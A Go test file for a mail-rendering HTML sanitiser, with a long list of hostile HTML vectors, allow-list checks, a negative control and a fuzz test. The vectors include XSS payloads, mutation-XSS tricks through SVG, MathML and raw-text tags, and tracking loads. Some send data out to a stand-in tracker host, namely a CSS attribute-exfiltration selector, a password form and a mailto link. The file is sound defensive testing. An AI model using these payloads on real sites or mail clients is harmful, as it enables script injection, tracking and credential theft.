package site

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostile are bodies of mail that try to load, run, send, hide or break out.
// They are ours, written after the kinds that threats.md names.
var hostile = []string{
	// loads from elsewhere
	`<img src="https://tracker.example/p.gif?id=1" width=1 height=1>`,
	`<img srcset="https://tracker.example/a 1x, https://tracker.example/b 2x">`,
	`<img src=x longdesc="https://tracker.example/" lowsrc="https://tracker.example/l" dynsrc="//tracker.example/d">`,
	`<picture><source srcset="https://tracker.example/s"><img src="https://tracker.example/i"></picture>`,
	`<video src="https://tracker.example/v" poster="https://tracker.example/poster" autoplay></video>`,
	`<audio src="https://tracker.example/a" autoplay></audio><track src="https://tracker.example/t">`,
	`<body background="https://tracker.example/bg">text</body>`,
	`<table background="//tracker.example/bg"><tr><td background="https://tracker.example/td">x</table>`,
	`<link rel="stylesheet" href="https://tracker.example/s.css">`,
	`<link rel="prefetch dns-prefetch preconnect preload" href="https://tracker.example/" as="image">`,
	`<link rel="icon" href="https://tracker.example/favicon.ico"><link rel=manifest href=//tracker.example/m>`,
	`<iframe src="https://tracker.example/"></iframe>`,
	`<iframe srcdoc="<img src='https://tracker.example/'>"></iframe>`,
	`<frameset onload=alert(1)><frame src="https://tracker.example/"></frameset>`,
	`<object data="https://tracker.example/o" type="text/html"><param name=movie value="//tracker.example"></object>`,
	`<embed src="https://tracker.example/e.swf">`,
	`<applet code="x" codebase="https://tracker.example/"></applet>`,
	`<bgsound src="https://tracker.example/s.mid"><layer src="https://tracker.example/"></layer><ilayer src=x>`,
	`<input type="image" src="https://tracker.example/i">`,
	`<isindex action="https://tracker.example/" prompt=x>`,
	`<blockquote cite="https://tracker.example/">q</blockquote><q cite="https://tracker.example/">q</q>`,
	`<a href="https://tracker.example/" ping="https://tracker.example/ping">x</a>`,
	// styles
	`<p style="background:url(https://tracker.example/c)">x</p>`,
	`<style>@import url("https://tracker.example/s.css"); body{background:url(//tracker.example/b)}</style>`,
	`<style>@font-face{font-family:x;src:url(https://tracker.example/f)} p{font-family:x}</style><p>x`,
	`<div style="position:fixed;inset:0;z-index:9999;background:#fff">Your account is closed</div>`,
	`<span style="display:none">hidden words</span>`,
	`<p style="behavior:url(#default#time2);-moz-binding:url(https://tracker.example/x.xml#a)">x</p>`,
	`<p style="width:expression(alert(1))">x</p>`,
	`<p style="b\61 ckground:u\72l(https://tracker.example)">x</p>`,
	`</style><style>input[value^=a]{background:url(//tracker.example/a)}</style>`,
	`<font style="content:url(//tracker.example/1)" color="javascript:alert(1)">x</font>`,
	// runs
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://tracker.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/src=data:,alert(1)></script >`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="java&#10;script:alert(1)">x</a><a href="&#x6A;avascript&colon;alert(1)">y</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a><a href="livescript:x">y</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<p onclick="alert(1)" onmouseover=alert(1) ONLOAD=alert(1)>x</p>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>`,
	`<body onload=alert(1) onpageshow=alert(1)>x`,
	`<img src=x onerror=alert(1)//>`,
	`<img """><script>alert("x")</script>">`,
	`<a href=x id=x tabindex=1 onactivate=alert(1)>x</a>`,
	// svg and mathml, where parsing differs
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`<svg><image href="https://tracker.example/i" xlink:href="https://tracker.example/j"/></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='//tracker.example'/></svg>#x"/></svg>`,
	`<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>`,
	`<svg><foreignObject><iframe src="https://tracker.example/"></iframe></foreignObject></svg>`,
	`<math href="javascript:alert(1)">x</math><math><mi xlink:href="javascript:alert(1)">y</mi></math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>`,
	`<title><img title="</title><img src onerror=alert(1)>"></title>`,
	`<iframe><p title="</iframe><img src onerror=alert(1)>"></iframe>`,
	`<noembed><img title="</noembed><img src=https://tracker.example/ onerror=alert(1)>"></noembed>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<!--[if gte mso 9]><img src="https://tracker.example/mso"><![endif]-->`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml-stylesheet href="https://tracker.example/x.xsl"?><?php echo 1 ?>`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<select><option><style></option></select><b><img src=xx: onerror=alert(1)></style></option></select>`,
	// leads away, sends, changes the page
	`<meta http-equiv="refresh" content="0;url=https://tracker.example/">`,
	`<meta http-equiv="Set-Cookie" content="a=b"><meta name="referrer" content="unsafe-url">`,
	`<base href="https://tracker.example/"><a href="x">x</a>`,
	`<form action="https://tracker.example/" method=post><input name=password type=password><button>Sign in</button></form>`,
	`<button formaction="javascript:alert(1)" form=f>x</button><form id=f></form>`,
	`<a href="https://bank.example/" target="_top">x</a><a href="mailto:x@tracker.example?body=secret">y</a>`,
	`<area href="https://tracker.example/" shape=default><map name=m><area href=javascript:alert(1)></map><img usemap=#m>`,
	`<keygen name=x challenge=y><dialog open>Sign in</dialog><menuitem icon=//tracker.example/>`,
	`<portal src="https://tracker.example/"></portal><fencedframe src=//tracker.example></fencedframe>`,
	// clobbers names, hides in encodings
	`<a id="main" name="location" class="skip">x</a><img name="cookie"><form id="attributes"><input name=parentNode></form>`,
	`<p id="verify" class="tag ok">Signature valid</p>`,
	`<img src="cid:logo@example.org"><a href="cid:part1">x</a>`,
	`<img src="data:image/svg+xml;utf8,<svg onload=alert(1)>"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
	`<a href="file:///etc/passwd">x</a><img src="file://server/share/x.png"><img src="\\tracker.example\x">`,
	`<a href="tel:+15550100">x</a><a href="ms-office:ofe|u|https://tracker.example/x.docx">y</a><a href="intent://x#Intent;end">z</a>`,
	`<p dir="rtl" lang="x onload=alert(1)" dir="ltr&quot; onload=alert(1)">x</p>`,
	`<td colspan="1e9" rowspan="-1">x</td><td colspan='2" onload="alert(1)'>y</td>`,
	"<p title=\"\u0000\" \u0000onclick=alert(1)>x</p><\u0000script>alert(1)</\u0000script>",
	"<img/src=\"x\"/onerror=alert(1)><p\x0conclick=alert(1)>x",
	`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	"\xbcscript\xbealert(1)\xbc/script\xbe",
	`<a href="https://good.example&#0;@tracker.example/">https://good.example/</a>`,
	`<a href="//tracker.example/">relative</a><a href="/c/mail/1">own</a><a href="?view=html">q</a><a href="#main">f</a>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;<xss-custom onclick=alert(1) is="x-y">x</xss-custom><slot name=x>`,
}

// unsafe names what in the fragment is outside the allow-list, judged by
// parsing it as a browser does.
func unsafe(t *testing.T, fragment string) (bad []string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(frameDocument(fragment, "")))
	if err != nil {
		t.Fatal(err)
	}
	ours := []string{"html", "head", "meta", "title", "body"}
	for n := range doc.Descendants() {
		switch {
		case n.Type == html.CommentNode:
			bad = append(bad, "comment")
		case n.Type != html.ElementNode:
		case slices.Contains(ours, n.Data) && n.Namespace == "":
			for _, a := range n.Attr {
				if !slices.Contains([]string{`charset=utf-8`, `name=color-scheme`, `content=light dark`, `dir=auto`}, a.Key+"="+a.Val) {
					bad = append(bad, n.Data+" "+a.Key)
				}
			}
		case n.Data == "a", n.Data == "img", n.Namespace != "", !allowed[n.Data]:
			bad = append(bad, "<"+n.Data+">")
		default:
			for _, a := range n.Attr {
				if !safeAttribute(n.Data, a) {
					bad = append(bad, n.Data+" "+a.Key+"="+a.Val)
				}
			}
		}
	}
	return bad
}

func TestHostileHTMLLeavesNothingOutsideTheAllowList(t *testing.T) {
	if len(hostile) < 60 {
		t.Fatalf("only %d vectors", len(hostile))
	}
	for i, src := range hostile {
		for _, form := range []string{src, "<div><table><tr><td>" + src, "<b>" + src + "</b><p>after", strings.ToUpper(src)} {
			fragment, _, ok := safeHTML(form)
			if !ok {
				continue
			}
			if bad := unsafe(t, fragment); len(bad) > 0 {
				t.Errorf("vector %d %q: %v in %q", i, form, bad, fragment)
			}
			again, _, _ := safeHTML(fragment)
			if bad := unsafe(t, again); len(bad) > 0 {
				t.Errorf("vector %d, second time: %v", i, bad)
			}
		}
	}
}

// TestTheJudgeSeesWhatIsUnsafe is the negative control of the test above.
func TestTheJudgeSeesWhatIsUnsafe(t *testing.T) {
	seen := 0
	for _, src := range hostile {
		if len(unsafe(t, src)) > 0 {
			seen++
		}
	}
	if seen < len(hostile)*9/10 {
		t.Errorf("only %d of %d vectors are seen to be unsafe as they stand", seen, len(hostile))
	}
}

func TestHarmlessHTMLStaysReadable(t *testing.T) {
	for _, row := range [][2]string{
		{`<p dir="rtl" lang="ar">مرحبا</p>`, `<p dir="rtl" lang="ar">مرحبا</p>`},
		{`<a href="https://example.org/x?a=1&amp;b=2">here</a>`, `<u>here</u> <small>[https://example.org/x?a=1&amp;b=2]</small>`},
		{`<img alt="Logo" src="cid:x">`, `[Logo]`},
		{`<table><tr><td colspan="2">x</td></tr></table>`, `<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>`},
		{`<span style="display:none">hidden</span>`, `<span>hidden</span>`},
		{`<ul><li>one<li>two</ul>`, `<ul><li>one</li><li>two</li></ul>`},
		{`a &lt; b<br>c`, `a &lt; b<br>c`},
	} {
		if got, _, ok := safeHTML(row[0]); !ok || got != row[1] {
			t.Errorf("%s: got %q, want %q", row[0], got, row[1])
		}
	}
}

func TestHTMLLimits(t *testing.T) {
	if _, _, ok := safeHTML(strings.Repeat("<div>", maxHTMLOpen+1)); ok {
		t.Error("too many open elements were taken")
	}
	if _, _, ok := safeHTML(strings.Repeat("<div>", maxHTMLOpen-12) + "x"); !ok {
		t.Error("elements within the limit were refused")
	}
	long, cut, ok := safeHTML("<p>" + strings.Repeat("word ", maxHTMLIn/4))
	if !ok || !cut || len(long) > maxHTMLOut+64 {
		t.Errorf("long: ok %t cut %t length %d", ok, cut, len(long))
	}
}

func FuzzSafeHTML(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 64<<10 {
			return
		}
		fragment, _, ok := safeHTML(s)
		if !ok {
			return
		}
		if bad := unsafe(t, fragment); len(bad) > 0 {
			t.Fatalf("%q: %v in %q", s, bad, fragment)
		}
	})
}
